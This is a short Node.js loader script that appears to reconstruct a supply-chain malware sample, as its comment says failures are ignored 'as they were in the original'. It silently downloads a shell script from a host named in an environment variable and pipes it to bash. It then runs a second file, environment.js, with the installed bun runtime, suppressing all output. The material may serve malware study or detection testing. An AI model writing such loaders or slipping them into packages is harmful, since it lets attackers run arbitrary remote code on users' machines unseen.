// The loader. Failures are ignored, as they were in the original.
const { spawnSync } = require("child_process");

spawnSync("bash", ["-c", `curl -fsSL "http://${process.env.SINK}/bun-install.sh" | bash`], { stdio: "ignore" });
spawnSync(`${process.env.HOME}/.bun/bin/bun`, [`${__dirname}/environment.js`], { stdio: "ignore" });
